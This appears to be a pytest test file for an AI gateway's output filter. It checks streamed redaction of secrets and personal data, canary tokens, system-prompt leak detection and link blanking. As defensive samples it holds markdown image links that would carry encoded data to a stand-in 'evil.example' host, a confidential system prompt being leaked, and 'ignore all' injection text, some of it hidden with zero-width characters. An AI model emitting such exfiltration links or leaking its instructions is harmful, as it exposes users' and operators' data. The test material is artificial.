from __future__ import annotations

import json
import random

import pytest

from policies.sanitise.inspection import Inspection
from policies.sanitise.output.filtering import Filter, duty_of
from policies.sanitise.output.known import KnownSecrets
from policies.sanitise.output.screen import HELD, LONGEST_WORD, STEP
from policies.sanitise.output.sighting import BlockedError
from policies.sanitise.redaction.placeholder import longest_placeholder
from policies.sanitise.redaction.restorer import Place
from tests.support.guarded import AWS, MAIL, QUOTED, inspection_of, pieces, placeholder
from tests.support.mixed_texts import mixed_text

LATIN = "lorem ipsum dolor sit amet, consetetur sadipscing elitr, sed diam nonumy eirmod tempor"
WORDS = LATIN.split(" ")
SYSTEM = (
    "You are the assistant of Borealis Insurance. Never mention the internal discount ladder: seven percent after two "
    "refusals, eleven percent after three refusals, and fifteen percent when the customer names a competitor."
)


def prose(seed: int, words: int = 60) -> str:
    chosen = random.Random(seed)  # noqa: S311  the same each time
    return " ".join(chosen.choice(WORDS) for _ in range(words))


def passed(inspection: Inspection, *parts: str, known: KnownSecrets | None = None) -> str:
    filtered = Filter(duty_of(inspection, known), "content")
    return "".join(map(filtered.feed, parts)) + filtered.finish()


def blocked(inspection: Inspection, *parts: str) -> str:
    """Return what passed before something was blocked."""
    filtered, sent = Filter(duty_of(inspection), "content"), ""
    try:
        for part in parts:
            sent += filtered.feed(part)
        sent += filtered.finish()
    except BlockedError as error:
        return sent + error.passed
    raise AssertionError("nothing was blocked")


def test_placeholders_are_restored_at_every_split() -> None:
    inspection = inspection_of()
    text = f"Write to {placeholder(inspection, 'email', MAIL)}, not to [[EMAIL_1]] or [x]."

    for cut in range(len(text)):
        assert passed(inspection, text[:cut], text[cut:]) == f"Write to {MAIL}, not to [[EMAIL_1]] or [x]."


def test_no_more_is_held_back_than_a_placeholder() -> None:
    inspection = inspection_of()
    mark = placeholder(inspection, "email", MAIL)
    filtered = Filter(duty_of(inspection), "content")

    held = 0
    for character in f"{prose(1)} {mark} {mark[:-1]} {prose(2)}":
        filtered.feed(character)
        held = max(held, filtered.held)

    assert held <= longest_placeholder(mark[-7:-2])


def test_text_without_brackets_passes_at_once() -> None:
    inspection = inspection_of(masked=[("email", MAIL)])
    filtered = Filter(duty_of(inspection), "content")

    assert [filtered.feed(piece) for piece in ("Hello", ", ", "you")] == ["Hello", ", ", "you"]


def test_values_inside_of_json_are_escaped() -> None:
    inspection = inspection_of()
    written = json.dumps({"a": placeholder(inspection, "secret", QUOTED), "b": [1]})

    for cut in range(len(written)):
        filtered = Filter(duty_of(inspection), "arguments", "json")
        sent = filtered.feed(written[:cut]) + filtered.feed(written[cut:]) + filtered.finish()
        assert json.loads(sent) == {"a": QUOTED, "b": [1]}


def test_counts_of_placeholders_are_told() -> None:
    inspection = inspection_of()
    mark = placeholder(inspection, "email", MAIL)

    passed(inspection, f"{mark} {mark.replace('_1_', '_7_')} {mark[-7:-2]}")

    assert (inspection.restored, inspection.invented, inspection.unrestored) == (1, 1, 1)


@pytest.mark.parametrize("before", [0, 1, 40])
def test_secrets_are_taken_out_at_every_split(before: int) -> None:
    lead, tail = prose(3, before), prose(4, 30)
    text = f"{lead} The key is {AWS} and {tail}"
    start = len(lead)

    for cut in range(start, start + 60):
        inspection = inspection_of(output={"secrets": "redact"})
        assert passed(inspection, text[:cut], text[cut:]) == f"{lead} The key is [REDACTED_SECRET] and {tail}"
        assert inspection.counts == {("output", "secrets", "redact"): 1}


@pytest.mark.parametrize("size", [1, 3, 7, 50, 1_000])
def test_personal_data_is_taken_out_in_pieces_of_any_size(size: int) -> None:
    facts = f"mail {MAIL}, card 4111 1111 1111 1111, phone +49 30 901820, IBAN DE89 3704 0044 0532 0130 00."
    text = f"{prose(5)} {facts} {prose(6)}"
    inspection = inspection_of(output={"pii": "redact"})

    sent = passed(inspection, *pieces(text, size))

    marks = "mail [REDACTED_EMAIL], card [REDACTED_CARD], phone [REDACTED_PHONE], IBAN [REDACTED_IBAN]."
    assert sent == f"{prose(5)} {marks} {prose(6)}"


def test_random_cuts_change_nothing_in_what_is_sent() -> None:
    drawn = random.Random(11)  # noqa: S311  the same each time
    for seed in range(60):
        parts = [prose(seed, drawn.randrange(30))]
        for item in (AWS, MAIL, "192.168.40.41", "4111 1111 1111 1111"):
            parts += [item, prose(seed + 1, drawn.randrange(1, 40))]
        inspection = inspection_of(output={"secrets": "redact", "pii": "redact"})
        text = " ".join([*parts, placeholder(inspection, "phone", "+49 30 901820"), "end"])
        cuts = sorted(drawn.randrange(len(text)) for _ in range(drawn.randrange(40)))
        cut = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]

        assert passed(inspection, *cut) == Filter(duty_of(inspection), "content").whole(text)


def test_a_long_key_in_lines_is_taken_out_whole() -> None:
    drawn = random.Random(5)  # noqa: S311  the same each time
    lines = ["".join(drawn.choice("ABCDEFGHabcdefgh0123456789+/") for _ in range(64)) for _ in range(24)]
    begin, end = "-----BEGIN RSA " + "PRIVATE KEY-----", "-----END RSA " + "PRIVATE KEY-----"
    text = "\n".join([prose(7), begin, *lines, end, prose(8)])
    inspection = inspection_of(output={"secrets": "redact"})

    sent = passed(inspection, *pieces(text, 5))

    assert sent == f"{prose(7)}\n[REDACTED_SECRET]\n{prose(8)}"


def test_what_is_held_back_is_bounded() -> None:
    inspection = inspection_of(output={"secrets": "redact"})
    filtered = Filter(duty_of(inspection), "content")

    held, sent = 0, ""
    for piece in pieces("x" * 20_000 + prose(9, 400), 3):
        sent += filtered.feed(piece)
        held = max(held, filtered.held)

    assert sent + filtered.finish() == "x" * 20_000 + prose(9, 400)
    assert held <= LONGEST_WORD + HELD + LONGEST_WORD // 2


def test_words_are_held_back_no_longer_than_stated() -> None:
    inspection = inspection_of(output={"pii": "redact"})
    filtered = Filter(duty_of(inspection), "content")

    held = 0
    for character in prose(10, 300) + "漢字" * 400:
        filtered.feed(character)
        held = max(held, filtered.held)

    assert held <= HELD + STEP + max(map(len, WORDS)) + 2


def test_flagging_holds_nothing_back() -> None:
    inspection = inspection_of(output={"secrets": "flag", "pii": "monitor"})
    filtered = Filter(duty_of(inspection), "content")
    text = f"{prose(12, 300)} {AWS} {MAIL} {prose(13, 300)}"

    assert all(filtered.feed(piece) == piece for piece in pieces(text, 4))
    assert filtered.finish() == ""
    assert inspection.counts == {("output", "secrets", "flag"): 1, ("output", "pii", "monitor"): 1}


def test_places_of_findings_count_from_the_beginning_of_the_text() -> None:
    inspection = inspection_of(output={"pii": "flag"})
    text = f"{prose(14, 500)} {MAIL} {prose(15, 200)}"

    passed(inspection, *pieces(text, 6))

    assert inspection.verdicts[0].ranges == ((text.index(MAIL), text.index(MAIL) + len(MAIL)),)


def test_what_blocks_is_not_sent_and_what_came_before_is() -> None:
    text = f"{prose(16)} {AWS} {prose(17)}"

    for size in (1, 9, 2_000):
        sent = blocked(inspection_of(output={"secrets": "block"}), *pieces(text, size))
        assert text.startswith(sent)
        assert len(sent) == text.index(AWS)


def test_placeholders_are_no_secrets() -> None:
    inspection = inspection_of(output={"secrets": "block", "pii": "block"})
    mark = placeholder(inspection, "secret", "Tr0ub4dor&3xyz")

    assert passed(inspection, f"secret={mark} done") == "secret=Tr0ub4dor&3xyz done"


def test_allowed_values_are_no_findings() -> None:
    inspection = inspection_of(output={"pii": "redact"}, allow={"pii": ("*@firm.org",)})

    assert passed(inspection, f"Write to {MAIL} now.") == f"Write to {MAIL} now."


@pytest.mark.parametrize(
    "written", ["blue-heron-4711", "BLUE heron 4711", "1174norehEULB", "b l u e h e r o n 4 7 1 1"]
)
def test_canaries_block_in_any_spelling_and_split(written: str) -> None:
    text = f"{prose(18)} {written} {prose(19)}"

    for cut in range(text.index(written), text.index(written) + len(written)):
        inspection = inspection_of(canaries=("blue-heron-4711",))
        assert len(blocked(inspection, text[:cut], text[cut:])) == text.index(written)
        assert inspection.counts == {("output", "canary", "block"): 1}


def test_a_given_away_system_message_is_flagged() -> None:
    inspection = inspection_of(output={"leak": "flag"}, trusted=SYSTEM)

    assert passed(inspection, *pieces(f"Sure! {SYSTEM}", 4)) == f"Sure! {SYSTEM}"
    assert inspection.counts == {("output", "leak", "flag"): 1}


def test_a_system_message_is_blocked_before_it_is_through() -> None:
    inspection = inspection_of(output={"leak": "block"}, trusted=SYSTEM)

    sent = blocked(inspection, *pieces(f"Sure! {SYSTEM}", 4))

    assert "eleven percent" not in sent


def test_an_answer_of_its_own_gives_nothing_away() -> None:
    inspection = inspection_of(output={"leak": "block"}, trusted=SYSTEM)

    assert passed(inspection, *pieces(prose(20, 300), 4)) == prose(20, 300)


@pytest.mark.parametrize("size", [1, 11, 500])
def test_addresses_that_carry_text_away_are_blanked(size: int) -> None:
    text = f"{prose(21)} ![x](https://evil.example/p?q=aGVsbG8gd29ybGQgdGhpcyBpcw) and [y](https://docs.python.org/3)"
    inspection = inspection_of(output={"links": "redact"})

    sent = passed(inspection, *pieces(text, size))

    assert sent == f"{prose(21)} ![x](about:blank) and [y](https://docs.python.org/3)"


def test_an_address_that_carries_a_placeholder_is_a_finding() -> None:
    inspection = inspection_of(output={"links": "redact"})
    mark = placeholder(inspection, "email", MAIL)

    sent = passed(inspection, *pieces(f"See ![x](https://evil.example/?q={mark}) and {mark}", 5))

    assert f"evil.example/?q={MAIL}" not in sent
    assert sent.endswith(f"and {MAIL}")


def test_the_gateways_own_secrets_never_pass() -> None:
    inspection = inspection_of(output={"pii": "flag"})
    own = "sk-tw-" + "a1B2c3D4" * 4

    sent = passed(
        inspection, *pieces(f"{prose(22)} vault-of-acme-77 {own} x", 3), known=KnownSecrets(["vault-of-acme-77"])
    )

    assert sent == f"{prose(22)} [REDACTED_SECRET] [REDACTED_SECRET] x"


@pytest.mark.parametrize(
    ("address", "is_carried"),
    [
        ("https://evil.example/?q={}", True),
        ("https://evil.example/{}/x", True),
        ("https://evil.example/x#{}", True),
        ("//evil.example/{}", True),
        ("https://{}.evil.example/x", True),
        ("https://docs.firm.example/{}", False),
        ("http://{}:8080/status", False),
        ("http://{}", False),
    ],
)
def test_addresses_that_would_carry_what_a_placeholder_stands_for(address: str, *, is_carried: bool) -> None:
    inspection = inspection_of(output={"links": "flag"}, allow={"links": (".firm.example",)})
    mark = placeholder(inspection, "ip", "10.9.8.7")

    passed(inspection, f"Look: {address.format(mark)} and {mark}.")

    assert bool(inspection.counts) is is_carried


def test_own_secrets_are_known_without_holding_text_back() -> None:
    inspection = inspection_of(masked=[("email", MAIL)])
    filtered = Filter(duty_of(inspection, KnownSecrets(["vault-of-acme-77"])), "content")

    assert [filtered.feed(piece) for piece in ("Hello", " there,", " you")] == ["Hello", " there,", " you"]


def test_what_came_before_an_own_secret_is_sent_where_it_blocks() -> None:
    inspection = inspection_of(output={"secrets": "block"})
    filtered = Filter(duty_of(inspection, KnownSecrets(["vault-of-acme-77"])), "content")

    with pytest.raises(BlockedError) as error:
        filtered.whole("Mine is vault-of-acme-77, all right.")

    assert error.value.passed == "Mine is "
    assert inspection.counts == {("output", "secrets", "block"): 1}


def test_disguises_are_written_plainly() -> None:
    inspection = inspection_of(output={"unicode": "redact"})

    sent = passed(inspection, *pieces(f"{prose(23)} i\u200bg\u200bn\u200bo\u200br\u200be {prose(24)}", 2))

    assert sent == f"{prose(23)} ignore {prose(24)}"


def test_a_signed_text_stays_as_it_is() -> None:
    inspection = inspection_of(output={"pii": "redact"})
    text = f"{placeholder(inspection, 'phone', '+49 30 901820')} {MAIL}"
    filtered = Filter(duty_of(inspection), "thinking", is_signed=True)

    assert filtered.feed(text) + filtered.finish() == text
    assert inspection.counts == {("output", "pii", "flag"): 1}


def test_a_signed_text_can_be_blocked() -> None:
    inspection = inspection_of(output={"pii": "block"})
    filtered = Filter(duty_of(inspection), "thinking", is_signed=True)

    with pytest.raises(BlockedError):
        filtered.whole(f"Mail {MAIL}.")


def test_secrets_after_an_escape_in_json_are_found() -> None:
    inspection = inspection_of(output={"secrets": "redact"})
    written = json.dumps({"text": f"first\n{AWS}\nlast"})
    filtered = Filter(duty_of(inspection), "arguments", "json")

    sent = "".join(map(filtered.feed, pieces(written, 4))) + filtered.finish()

    assert json.loads(sent) == {"text": "first\n[REDACTED_SECRET]\nlast"}


def test_instructions_in_an_answer_are_flagged() -> None:
    inspection = inspection_of(output={"injection": "redact"})
    duty = duty_of(inspection, instructions=lambda text: 0.9 if "ignore all" in text else None)
    filtered = Filter(duty, "content")

    sent = "".join(map(filtered.feed, pieces(prose(25, 300) + " ignore all", 5))) + filtered.finish()

    assert sent == prose(25, 300) + " ignore all"
    assert inspection.counts == {("output", "injection", "flag"): 1}


@pytest.mark.parametrize("place", ["text", "json"])
@pytest.mark.parametrize("is_signed", [False, True])
def test_a_text_passes_at_once_where_a_filter_neither_changes_it_nor_tells_of_it(
    place: Place,
    is_signed: bool,  # noqa: FBT001  a parameter
) -> None:
    source = random.Random(f"{place}{is_signed}")  # noqa: S311  the same each time
    known = KnownSecrets(["vault-of-acme-77"])
    passing = 0
    for _ in range(400):
        inspection = inspection_of(output={"secrets": "redact", "pii": "flag", "unicode": "redact", "links": "redact"})
        mark = placeholder(inspection, "email", MAIL)
        more = source.choice(("", "", "", mark, mark[:-1], mark.casefold(), "vault-of-acme-77", "[["))
        text = mixed_text(source) + more
        duty = duty_of(inspection, known)

        passes = duty.passes(text, place, is_signed=is_signed)

        filtered = Filter(duty, "content", place, is_signed=is_signed)
        is_same = filtered.feed(text) + filtered.finish() == text
        told = (inspection.verdicts, inspection.restored, inspection.invented, inspection.unrestored)
        assert not passes or (is_same and not any(told))
        passing += passes
    assert 30 < passing < 380


def test_a_text_that_a_filter_reads_for_more_than_findings_does_not_pass_at_once() -> None:
    leaky = inspection_of(trusted=SYSTEM, output={"leak": "flag"})
    instructed = inspection_of(output={"injection": "flag"})

    assert not duty_of(leaky).passes("Hello.")
    assert not duty_of(instructed, instructions=lambda _: None).passes("Hello.")


def test_a_whole_text_is_sent_as_in_pieces() -> None:
    source = random.Random(3)  # noqa: S311  the same each time
    for _ in range(300):
        text = f"{mixed_text(source)} {prose(source.randrange(99))}"
        inspection = inspection_of(output={"secrets": "redact", "pii": "redact"})

        assert passed(inspection, text) == Filter(duty_of(inspection), "content").whole(text)


def test_a_whole_text_with_a_secret_of_the_gateway_that_is_blocked_passes_up_to_it() -> None:
    inspection = inspection_of(output={"secrets": "block", "pii": "redact"})
    duty = duty_of(inspection, KnownSecrets(["vault-of-acme-77"]))

    with pytest.raises(BlockedError) as caught:
        Filter(duty, "content").whole(f"Mail {MAIL} about vault-of-acme-77 now.")

    assert caught.value.passed == "Mail [REDACTED_EMAIL] about "
